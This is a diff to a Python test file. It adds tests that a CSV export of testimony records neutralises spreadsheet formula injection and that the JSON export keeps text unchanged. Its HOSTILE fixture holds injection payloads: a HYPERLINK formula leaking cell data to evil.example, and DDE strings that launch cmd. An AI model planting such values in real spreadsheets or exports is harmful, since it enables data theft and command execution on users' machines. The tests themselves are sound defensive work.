@@ -67,12 +67,77 @@ def test_csv_joins_problems_with_semicolons(db_url: str, make_record: MakeRecord
     assert text.endswith("\r\n")
 
 
-def test_csv_neutralises_formulas_in_free_text(db_url: str, make_record: MakeRecord) -> None:
-    _save(make_record(description='=HYPERLINK("http://x")', sector="@jouets"), "a")
+HOSTILE = {
+    "=": '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("start", list(HOSTILE))
+def test_csv_neutralises_formulas_in_text_cells(
+    db_url: str, make_record: MakeRecord, start: str
+) -> None:
+    hostile = HOSTILE[start]
+    _save(
+        make_record(
+            platform="other",
+            platform_other=hostile,
+            description=hostile,
+            sector=hostile,
+            company_name=hostile,
+            contact_name=hostile,
+        ),
+        "a",
+    )
+    (row,) = csv.DictReader(io.StringIO(to_csv(export_records()), newline=""))
+    for name in ("platform_other", "description", "sector", "company_name", "contact_name"):
+        assert row[name] == "'" + hostile.strip(), name  # saving strips blanks
+    assert row["phone"] == "'+33612345678"  # a text cell too: Excel would drop the '+'
+
+
+def test_csv_leaves_safe_text_and_numbers_alone(db_url: str, make_record: MakeRecord) -> None:
+    _save(make_record(description="Compte fermé le 3 mars = 15 000 € perdus", sector="a=b"), "a")
     (row,) = csv.DictReader(io.StringIO(to_csv(export_records())))
-    assert row["description"] == '\'=HYPERLINK("http://x")'
-    assert row["sector"] == "'@jouets"
-    assert row["phone"] == "+33612345678"
+    assert row["description"] == "Compte fermé le 3 mars = 15 000 € perdus"
+    assert row["sector"] == "a=b"
+    assert row["estimated_loss_eur"] == "15000" and row["revenue_share_pct"] == "80"
+    assert row["created_at"][0].isdigit() and row["problems"].startswith("account_termination")
+
+
+def test_csv_neutralises_cells_starting_with_a_tab_or_carriage_return() -> None:
+    record = dict.fromkeys(EXPORT_FIELDS)
+    record.update(description=HOSTILE["tab"], sector=HOSTILE["cr"], problems=[])
+    (row,) = csv.DictReader(io.StringIO(to_csv([record]), newline=""))
+    assert row["description"] == "'\t=1+1" and row["sector"] == "'\r=1+1"
+
+
+def test_only_string_cells_are_escaped() -> None:
+    record = dict.fromkeys(EXPORT_FIELDS)
+    record.update(estimated_loss_eur=-5, revenue_share_pct=0, description="-5", problems=[])
+    (row,) = csv.DictReader(io.StringIO(to_csv([record])))
+    assert row["estimated_loss_eur"] == "-5" and row["revenue_share_pct"] == "0"
+    assert row["description"] == "'-5"
+
+
+def test_json_keeps_hostile_text_as_typed(db_url: str, make_record: MakeRecord) -> None:
+    _save(make_record(description=HOSTILE["="], sector="@jouets"), "a")
+    (record,) = json.loads(to_json(export_records()))
+    assert record["description"] == HOSTILE["="] and record["sector"] == "@jouets"
+    assert record["phone"] == "+33612345678"
+
+
+def test_hostile_csv_is_the_same_bytes_from_the_command_line(
+    db_url: str, make_record: MakeRecord, tmp_path: Path
+) -> None:
+    _save(make_record(description=HOSTILE["+"], platform="other", platform_other="=1+1"), "a")
+    output = tmp_path / "out.csv"
+    assert main(["export", "--format", "csv", "--output", str(output)]) == 0
+    assert output.read_bytes() == export_bytes(export_records(), "csv")
+    assert b"'=1+1" in output.read_bytes()
 
 
 def test_anonymous_testimony_exports_no_identifying_field(
